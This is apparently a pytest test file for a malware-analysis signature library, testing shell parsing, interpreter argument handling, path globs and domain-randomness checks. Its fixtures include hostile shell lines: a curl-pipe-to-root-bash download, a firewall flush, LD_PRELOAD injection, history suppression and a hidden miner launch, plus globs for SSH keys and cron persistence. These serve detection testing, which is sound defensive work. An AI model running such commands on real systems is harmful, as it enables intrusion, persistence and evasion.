"""The query library rules are written in: command parsing, path globs, pointers, judgements."""

from __future__ import annotations

import pytest

from aasee.processing.signatures.commands import (
    inline_code,
    parse_shell,
    program_name,
    program_source,
    script_argument,
)
from aasee.processing.signatures.facts import domain_label, looks_random, mode_value
from aasee.processing.signatures.query import ReportIndex, glob_regex, pointer

from .builder import Builder, resolve


class TestShellText:
    def test_commands_pipelines_and_operators(self) -> None:
        script = parse_shell("curl -s http://x/a | sudo -u root bash; iptables -F && echo ok\nid")
        got = [(c.name, c.args, c.pipeline, c.stage) for c in script.commands]
        assert got == [
            ("curl", ("-s", "http://x/a"), 0, 0),
            ("bash", (), 0, 1),
            ("iptables", ("-F",), 1, 0),
            ("echo", ("ok",), 2, 0),
            ("id", (), 3, 0),
        ]

    def test_wrappers_redirections_assignments(self) -> None:
        (ls, only, miner) = parse_shell(
            "LD_PRELOAD=/tmp/x.so ls -l >/dev/null 2>&1 &\n"
            "HISTFILE=/dev/null\n"
            "nohup timeout 5 /tmp/.x/miner -o pool:3333 > /dev/null &"
        ).commands
        assert (ls.name, ls.args, ls.env) == ("ls", ("-l",), ("LD_PRELOAD=/tmp/x.so",))
        assert (only.name, only.env) == ("", ("HISTFILE=/dev/null",))
        assert (miner.name, miner.program, miner.args) == (
            "miner",
            "/tmp/.x/miner",
            ("-o", "pool:3333"),
        )

    def test_hostile_text_is_bounded_and_survives_bad_quoting(self) -> None:
        assert [c.name for c in parse_shell('echo "unbalanced').commands] == ["echo"]
        assert len(parse_shell("true;" * 10_000).commands) <= 128

    def test_inline_code_and_scripts(self) -> None:
        assert inline_code("bash", ("-ec", "id")) == ("sh", "id")
        assert inline_code("python3.11", ("-c", "print(1)")) == ("python", "print(1)")
        assert inline_code("perl", ("-e", "1")) == ("perl", "1")
        assert inline_code("python3", ("tool.py", "-c", "x")) is None
        assert script_argument("sh", ("/tmp/a.sh", "arg")) == "/tmp/a.sh"
        assert script_argument("python3", ("-m", "pip")) is None
        assert script_argument("ls", ("/tmp",)) is None
        assert program_name("/bin/busybox", ["busybox", "wget", "-q", "u"]) == ("wget", ("-q", "u"))


class TestProgramSource:
    """Where an interpreter takes its program from, read the way the interpreter reads it."""

    @pytest.mark.parametrize(
        ("name", "args", "kind", "value"),
        [
            ("sh", ("/tmp/a.sh", "x"), "file", "/tmp/a.sh"),
            ("sh", ("-e", "/tmp/a.sh"), "file", "/tmp/a.sh"),  # errexit, not code
            ("bash", ("-xo", "pipefail", "b.sh"), "file", "b.sh"),
            ("bash", ("+o", "posix", "b.sh"), "file", "b.sh"),
            ("bash", ("--rcfile", "/tmp/rc", "b.sh"), "file", "b.sh"),
            ("sh", ("--", "/tmp/-x.sh"), "file", "/tmp/-x.sh"),
            ("sh", ("-ce", "id", "/tmp/a.sh"), "code", "id"),
            ("sh", ("-c", "rm /tmp/a.sh", "/tmp/a.sh"), "code", "rm /tmp/a.sh"),
            ("sh", ("-s", "/tmp/a.sh"), "stdin", ""),
            ("bash", (), "stdin", ""),
            ("python3", ("-W", "ignore", "/tmp/b.py"), "file", "/tmp/b.py"),
            ("python3", ("-uWignore", "/tmp/b.py"), "file", "/tmp/b.py"),
            ("python3.11", ("-X", "dev", "-B", "b.py"), "file", "b.py"),
            ("python3", ("-m", "pip", "install", "x"), "module", "pip"),
            ("python3", ("-mpip",), "module", "pip"),
            ("python3", ("-uc", "print(1)", "x.py"), "code", "print(1)"),
            ("python3", ("-", "x.py"), "stdin", ""),
            ("perl", ("-wle", "print 1"), "code", "print 1"),
            ("perl", ("-I/tmp/e", "/tmp/x.pl"), "file", "/tmp/x.pl"),
            ("perl", ("-pie", "s/a/b/", "f"), "file", "s/a/b/"),  # -i takes "e" as suffix
            ("php", ("-c", "/tmp/php.ini", "/srv/app.php"), "file", "/srv/app.php"),
            ("php", ("-f", "/tmp/x.php"), "file", "/tmp/x.php"),
            ("php", ("-r", "echo 1;"), "code", "echo 1;"),
            ("node", ("-r", "dotenv/config", "/tmp/x.js"), "file", "/tmp/x.js"),
            ("node", ("--eval=1",), "code", "1"),
            ("ruby", ("-r", "socket", "/tmp/x.rb"), "file", "/tmp/x.rb"),
        ],
    )
    def test_sources(self, name: str, args: tuple[str, ...], kind: str, value: str) -> None:
        source = program_source(name, args)
        assert source is not None and (source.kind, source.value) == (kind, value)
        assert script_argument(name, args) == (value if kind == "file" else None)

    def test_no_program(self) -> None:
        assert program_source("bash", ("--version",)) is None
        assert program_source("python3", ("-V",)) is None
        assert program_source("ls", ("/tmp",)) is None
        assert program_source("busybox", ()) is None

    def test_runs_resolve_scripts_against_the_directory(self) -> None:
        b = Builder()
        b.run(["sh", "-e", "./x.sh"], image="/usr/bin/sh", cwd="/var/tmp")
        runs = [(r.item.path, r.item.interpreter) for r in ReportIndex(b.build()).runs()]
        assert runs == [("/tmp/sample", ""), ("/usr/bin/sh", ""), ("/var/tmp/x.sh", "sh")]


class TestPaths:
    @pytest.mark.parametrize(
        ("pattern", "path", "matches"),
        [
            ("/etc/cron.d/*", "/etc/cron.d/job", True),
            ("/etc/cron.d/*", "/etc/cron.d/sub/job", False),
            ("/etc/cron.d/**", "/etc/cron.d/sub/job", True),
            ("/home/*/.ssh/*", "/home/alice/.ssh/id_rsa", True),
            ("/etc/rc[0-6S].d/*", "/etc/rc2.d/S01x", True),
            ("/etc/rc[0-6S].d/*", "/etc/rcX.d/S01x", False),
            ("/tmp/?", "/tmp/ab", False),
        ],
    )
    def test_globs(self, pattern: str, path: str, matches: bool) -> None:
        assert bool(glob_regex(pattern).match(path)) is matches

    def test_index_finds_by_glob_and_name_in_report_order(self) -> None:
        b = Builder()
        for path in ("/var/log/b", "/etc/cron.d/z", "/var/log/a", "/root/.bashrc"):
            b.write(path)
        ctx = ReportIndex(b.build())
        assert [f.item.path for f in ctx.files("written", ["/var/log/*"])] == [
            "/var/log/b",
            "/var/log/a",
        ]
        assert [f.ref for f in ctx.files_named("written", [".bashrc"])] == ["/files/written/3"]
        assert ctx.files("written", ["/nothing/**"]) == []

    def test_pointer_escapes_and_resolves(self) -> None:
        assert (
            pointer("syscalls", "per_process", "a/b~c", "open")
            == "/syscalls/per_process/a~1b~0c/open"
        )
        b = Builder()
        b.syscall("init_module")
        (use,) = ReportIndex(b.build()).syscalls(["init_module"])
        assert resolve(b.build(), use.ref) == 1


class TestJudgements:
    @pytest.mark.parametrize(
        "label",
        ["google", "debian", "pythonhosted", "cloudflare", "amazonaws", "stackoverflow",
         "googleapis", "letsencrypt", "strengths", "localhost"],
    )  # fmt: skip
    def test_words_are_not_random(self, label: str) -> None:
        assert not looks_random(label)

    @pytest.mark.parametrize(
        "label", ["kzqxwvbnmtrp", "xjwqkzpfhd", "a1b2c3d4e5f6", "qwrtpsdfghjk"]
    )
    def test_generated_labels_are_random(self, label: str) -> None:
        assert looks_random(label)

    def test_registered_label(self) -> None:
        assert domain_label("a.files.example.co.uk") == "example"
        assert domain_label("files.pythonhosted.org.") == "pythonhosted"

    def test_modes(self) -> None:
        assert mode_value("4755") == 0o4755
        assert mode_value("?") is None and mode_value(None) is None
